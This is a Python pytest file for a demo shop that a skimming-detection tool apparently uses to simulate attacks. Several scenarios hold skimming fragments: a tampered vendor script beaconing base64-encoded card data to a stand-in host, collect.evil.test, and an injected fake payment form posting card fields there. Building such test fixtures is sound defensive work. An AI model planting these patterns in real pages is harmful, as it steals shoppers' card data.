"""The demo shop over real HTTP (loopback, Host header; no DNS)."""

from __future__ import annotations

import base64
import http.client
import json
import time
from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from skimguard.demo import SCENARIOS, DemoShop
from skimguard.demo.journeys import demo_site_config

SECURITY_HEADERS = ("Strict-Transport-Security", "X-Frame-Options", "Referrer-Policy",
                    "Permissions-Policy", "X-Content-Type-Options")
HTML_PAGES = ("/", "/product/1", "/product/2", "/cart", "/checkout/address", "/checkout/payment",
              "/checkout/thanks", "/member/register", "/member/welcome")
GOOD_CARD = {"number": "4242424242424242", "exp": "12/30", "cvc": "123", "name": "TARO YAMADA"}


@dataclass
class Reply:
    status: int
    headers: http.client.HTTPMessage
    body: bytes

    @property
    def text(self) -> str:
        return self.body.decode()


def call(shop: DemoShop, method: str, host: str, path: str, body: bytes | str | None = None,
         headers: dict[str, str] | None = None) -> Reply:
    conn = http.client.HTTPConnection("127.0.0.1", shop.port, timeout=5)
    try:
        data = body.encode() if isinstance(body, str) else body
        conn.request(method, path, body=data, headers={"Host": f"{host}:{shop.port}", **(headers or {})})
        resp = conn.getresponse()
        return Reply(resp.status, resp.headers, resp.read())
    finally:
        conn.close()


@pytest.fixture()
def shop() -> Iterator[DemoShop]:
    with DemoShop() as s:
        yield s


def shop_origin(shop: DemoShop) -> str:
    return f"http://shop.test:{shop.port}"


@pytest.mark.parametrize("path", HTML_PAGES)
def test_shop_pages_are_served_with_security_headers(shop: DemoShop, path: str) -> None:
    reply = call(shop, "GET", "shop.test", path)
    assert reply.status == 200
    assert reply.headers["Content-Type"].startswith("text/html")
    csp = reply.headers["Content-Security-Policy"]
    assert "default-src 'self'" in csp and "img-src * data:" in csp
    assert f"script-src 'self' 'unsafe-inline' http://cdn.formassist.test:{shop.port}" in csp
    assert f"connect-src 'self' http://pay.psp.test:{shop.port}" in csp
    assert "frame-ancestors 'none'" in csp and "form-action" not in csp
    for name in SECURITY_HEADERS:
        assert reply.headers[name], name
    assert reply.headers["X-Frame-Options"] == "DENY"


def test_static_assets(shop: DemoShop) -> None:
    for path, ctype in (("/static/checkout.js", "application/javascript"),
                        ("/static/analytics.js", "application/javascript"),
                        ("/static/shop.css", "text/css"), ("/collect?p=%2F", "image/gif")):
        reply = call(shop, "GET", "shop.test", path)
        assert reply.status == 200 and reply.headers["Content-Type"].startswith(ctype), path
    checkout_js = call(shop, "GET", "shop.test", "/static/checkout.js").text
    assert f"http://pay.psp.test:{shop.port}/v1/tokens" in checkout_js
    widget = call(shop, "GET", "shop.test", "/widgets/delivery-estimate")
    assert widget.status == 200 and "frame-ancestors 'self'" in widget.headers["Content-Security-Policy"]


def test_pages_have_the_journey_selectors(shop: DemoShop) -> None:
    payment = call(shop, "GET", "shop.test", "/checkout/payment").text
    for needle in ('id="card-number" name="card_number" autocomplete="cc-number"',
                   'id="card-expiry" name="card_expiry" autocomplete="cc-exp"',
                   'id="card-cvc" name="card_cvc" autocomplete="cc-csc"',
                   'id="card-name" name="card_name" autocomplete="cc-name"', 'id="pay"',
                   "カード番号 / Card number", f"http://cdn.formassist.test:{shop.port}/v2/formassist.js",
                   "/static/checkout.js", "<script>window.SHOP_CHECKOUT=", "createElement(\"script\")"):
        assert needle in payment, needle
    assert "collect.evil.test" not in payment
    address = call(shop, "GET", "shop.test", "/checkout/address").text
    for sel in ("name", "postal", "prefecture", "address", "phone", "email", "to-payment"):
        assert f'id="{sel}"' in address
    assert "<option>東京都</option>" in address
    register = call(shop, "GET", "shop.test", "/member/register").text
    for sel in ("reg-name", "reg-address", "reg-phone", "reg-email", "reg-password", "register"):
        assert f'id="{sel}"' in register
    product = call(shop, "GET", "shop.test", "/product/1").text
    assert 'id="add-to-cart"' in product
    assert f"http://cdn.formassist.test:{shop.port}/widget/reviews.html" in product
    assert 'id="checkout"' in call(shop, "GET", "shop.test", "/cart").text
    assert 'id="thanks"' in call(shop, "GET", "shop.test", "/checkout/thanks").text
    assert 'id="welcome"' in call(shop, "GET", "shop.test", "/member/welcome").text


def test_cart_session_and_checkout_flow(shop: DemoShop) -> None:
    added = call(shop, "POST", "shop.test", "/cart/add", "product_id=2&qty=2",
                 {"Content-Type": "application/x-www-form-urlencoded"})
    assert added.status == 303 and added.headers["Location"] == "/cart"
    cookie = added.headers["Set-Cookie"].split(";", 1)[0]
    cart = call(shop, "GET", "shop.test", "/cart", headers={"Cookie": cookie})
    assert "A5ノート" in cart.text and "3,300" in cart.text
    form = {"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie}
    address = call(shop, "POST", "shop.test", "/checkout/address", "name=Taro&prefecture=%E6%9D%B1", form)
    assert address.status == 303 and address.headers["Location"] == "/checkout/payment"
    # The shop refuses card data outright and needs a token the PSP issued.
    refused = call(shop, "POST", "shop.test", "/checkout/complete", "card_number=4242424242424242", form)
    assert refused.status == 400
    assert call(shop, "POST", "shop.test", "/checkout/complete", "payment_token=tok_x", form).status == 400
    token = json.loads(call(shop, "POST", "pay.psp.test", "/v1/tokens", json.dumps(GOOD_CARD)).body)["id"]
    done = call(shop, "POST", "shop.test", "/checkout/complete", f"payment_token={token}", form)
    assert done.status == 303 and done.headers["Location"] == "/checkout/thanks"
    thanks = call(shop, "GET", "shop.test", "/checkout/thanks", headers={"Cookie": cookie})
    assert "F000001" in thanks.text
    assert shop.orders[0]["total"] == 3300


def test_registration_redirects_to_welcome(shop: DemoShop) -> None:
    reply = call(shop, "POST", "shop.test", "/member/register", "name=Hanako&password=x",
                 {"Content-Type": "application/x-www-form-urlencoded"})
    assert reply.status == 303 and reply.headers["Location"] == "/member/welcome"


def test_vendor_script_changes_bytes_at_the_same_url(shop: DemoShop) -> None:
    clean = call(shop, "GET", "cdn.formassist.test", "/v2/formassist.js")
    assert clean.status == 200 and clean.headers["Cache-Control"] == "no-cache"
    assert b"collect.evil.test" not in clean.body
    shop.set_scenario("vendor-script-tampered")
    tampered = call(shop, "GET", "cdn.formassist.test", "/v2/formassist.js")
    assert tampered.body.startswith(clean.body) and tampered.body != clean.body
    assert f"http://collect.evil.test:{shop.port}/i.gif?d=".encode() in tampered.body
    assert b"btoa" in tampered.body
    # the shop's own pages are untouched
    assert "collect.evil.test" not in call(shop, "GET", "shop.test", "/checkout/payment").text
    shop.set_scenario("clean")
    assert call(shop, "GET", "cdn.formassist.test", "/v2/formassist.js").body == clean.body


def test_vendor_widget_frame(shop: DemoShop) -> None:
    page = call(shop, "GET", "cdn.formassist.test", "/widget/reviews.html?product=1")
    assert page.status == 200 and "<script>" in page.text
    assert f"http://cdn.formassist.test:{shop.port}/widget/reviews.js" in page.text
    assert call(shop, "GET", "cdn.formassist.test", "/widget/reviews.js").status == 200


def test_header_weakened_drops_only_csp(shop: DemoShop) -> None:
    shop.set_scenario("header-weakened")
    reply = call(shop, "GET", "shop.test", "/checkout/payment")
    assert reply.status == 200 and "Content-Security-Policy" not in reply.headers
    for name in SECURITY_HEADERS:
        assert reply.headers[name], name


def test_fake_payment_form_scenario(shop: DemoShop) -> None:
    shop.set_scenario("fake-payment-form")
    page = call(shop, "GET", "shop.test", "/checkout/payment").text
    assert f'action="http://collect.evil.test:{shop.port}/pay" method="post"' in page
    assert 'id="payment-form" action="/checkout/complete" method="post" style="display:none"' in page
    for selector in ("card-number", "card-expiry", "card-cvc", "card-name", "pay"):
        assert page.count(f'id="{selector}"') == 1, selector
    assert 'id="x-card-number"' in page and page.count('name="card_number"') == 2
    assert 'getElementById("card-form")' in page  # the injected inline script
    retry = call(shop, "GET", "shop.test", "/checkout/payment?retry=1").text
    assert "collect.evil.test" not in retry and 'id="retry-notice"' in retry
    assert 'id="card-number"' in retry and "display:none" not in retry


def test_registration_tampered_scenario(shop: DemoShop) -> None:
    assert "collect.evil.test" not in call(shop, "GET", "shop.test", "/member/register").text
    shop.set_scenario("registration-tampered")
    page = call(shop, "GET", "shop.test", "/member/register").text
    assert f"http://collect.evil.test:{shop.port}/r.gif?q=" in page and "btoa" in page


def test_token_api_cors_and_preflight(shop: DemoShop) -> None:
    origin = shop_origin(shop)
    pre = call(shop, "OPTIONS", "pay.psp.test", "/v1/tokens",
               headers={"Origin": origin, "Access-Control-Request-Method": "POST",
                        "Access-Control-Request-Headers": "content-type"})
    assert pre.status == 204
    assert pre.headers["Access-Control-Allow-Origin"] == origin
    assert "POST" in pre.headers["Access-Control-Allow-Methods"]
    assert "Content-Type" in pre.headers["Access-Control-Allow-Headers"]
    ok = call(shop, "POST", "pay.psp.test", "/v1/tokens", json.dumps(GOOD_CARD),
              {"Origin": origin, "Content-Type": "application/json"})
    assert ok.status == 200 and ok.headers["Access-Control-Allow-Origin"] == origin
    token = json.loads(ok.body)
    assert token["id"].startswith("tok_") and token["card"] == {
        "last4": "4242", "brand": "visa", "exp_month": 12, "exp_year": 2030}
    other = call(shop, "POST", "pay.psp.test", "/v1/tokens", json.dumps(GOOD_CARD),
                 {"Origin": "http://evil.example"})
    assert "Access-Control-Allow-Origin" not in other.headers
    assert [t["last4"] for t in shop.tokens] == ["4242", "4242"]
    assert "4242424242424242" not in repr(shop.tokens)


@pytest.mark.parametrize("card,code", [
    ({**GOOD_CARD, "number": "4242424242424241"}, "invalid_number"),
    ({**GOOD_CARD, "exp": "13/30"}, "invalid_expiry"),
    ({**GOOD_CARD, "cvc": "1"}, "invalid_cvc"),
])
def test_token_api_rejects_bad_cards(shop: DemoShop, card: dict[str, str], code: str) -> None:
    reply = call(shop, "POST", "pay.psp.test", "/v1/tokens", json.dumps(card),
                 {"Origin": shop_origin(shop)})
    assert reply.status == 402 and reply.headers["Content-Type"] == "application/json"
    assert json.loads(reply.body)["error"]["code"] == code
    assert reply.headers["Access-Control-Allow-Origin"] == shop_origin(shop)
    assert shop.tokens == []


def test_token_api_bad_json_and_psp_js(shop: DemoShop) -> None:
    assert call(shop, "POST", "pay.psp.test", "/v1/tokens", "not json").status == 400
    assert call(shop, "GET", "pay.psp.test", "/v1/js").status == 200


def test_collector_records_hits(shop: DemoShop) -> None:
    payload = base64.b64encode(b"4242424242424242|12/30|123|TARO").decode()
    before = time.time()
    beacon = call(shop, "GET", "collect.evil.test", f"/i.gif?d={payload}")
    assert beacon.status == 200 and beacon.headers["Content-Type"] == "image/gif"
    assert beacon.body.startswith(b"GIF89a")
    call(shop, "POST", "collect.evil.test", "/x", b"A" * 100_000)
    hits = shop.collected
    assert [(h.host, h.method, h.path) for h in hits] == [
        ("collect.evil.test", "GET", "/i.gif"), ("collect.evil.test", "POST", "/x")]
    assert hits[0].query == f"d={payload}" and hits[0].time >= before
    assert len(hits[1].body) == 64 * 1024


def test_fake_form_post_redirects_back_to_the_real_payment_step(shop: DemoShop) -> None:
    reply = call(shop, "POST", "collect.evil.test", "/pay",
                 "card_number=4242+4242&card_expiry=12%2F30&card_cvc=123&card_name=T",
                 {"Content-Type": "application/x-www-form-urlencoded"})
    assert reply.status == 303
    assert reply.headers["Location"] == f"http://shop.test:{shop.port}/checkout/payment?retry=1"
    (hit,) = shop.collected
    assert hit.method == "POST" and b"card_cvc=123" in hit.body


def test_scenarios_switch_via_api_and_http(shop: DemoShop) -> None:
    assert shop.scenario == "clean"
    for name in SCENARIOS:
        shop.set_scenario(name)
        assert shop.scenario == name
    with pytest.raises(ValueError):
        shop.set_scenario("nope")
    with pytest.raises(ValueError):
        DemoShop(scenario="nope")
    assert call(shop, "POST", "127.0.0.1", "/__demo/scenario", "fake-payment-form").status == 200
    assert shop.scenario == "fake-payment-form"
    assert call(shop, "GET", "localhost", "/__demo/scenario").text.strip() == "fake-payment-form"
    assert call(shop, "POST", "localhost", "/__demo/scenario", "nope").status == 400
    assert call(shop, "POST", "shop.test", "/__demo/scenario", "clean").status == 404
    assert shop.scenario == "fake-payment-form"


def test_unknown_host_and_path(shop: DemoShop) -> None:
    assert call(shop, "GET", "example.com", "/").status == 404
    assert call(shop, "GET", "shop.test", "/nope").status == 404
    assert call(shop, "GET", "shop.test", "/product/3").status == 404


def test_lifecycle_and_api() -> None:
    shop = DemoShop()
    with pytest.raises(RuntimeError):
        _ = shop.port
    shop.start()
    try:
        assert shop.url() == f"http://shop.test:{shop.port}/"
        assert shop.url("pay.psp.test", "/v1/js") == f"http://pay.psp.test:{shop.port}/v1/js"
        assert shop.hosts == {h: "127.0.0.1" for h in
                              ("shop.test", "cdn.formassist.test", "pay.psp.test", "collect.evil.test")}
        assert call(shop, "GET", "shop.test", "/").status == 200
    finally:
        started = time.monotonic()
        shop.stop()
        shop.stop()
        assert time.monotonic() - started < 2


def test_demo_site_config(shop: DemoShop) -> None:
    config = demo_site_config(shop)
    assert config["base_url"] == shop.url() and config["payment_hosts"] == ["pay.psp.test"]
    assert config["hosts"] == shop.hosts and config["block_unmapped_hosts"] is True
    checkout, registration = config["journeys"]
    assert checkout["name"] == "checkout" and registration["name"] == "registration"
    assert checkout["steps"][-1] == {"wait_for": "#thanks", "timeout": "6s"}
    assert {"click": "#pay", "page": "complete"} in checkout["steps"]
    assert registration["steps"][-1] == {"wait_for": "#welcome", "timeout": "6s"}
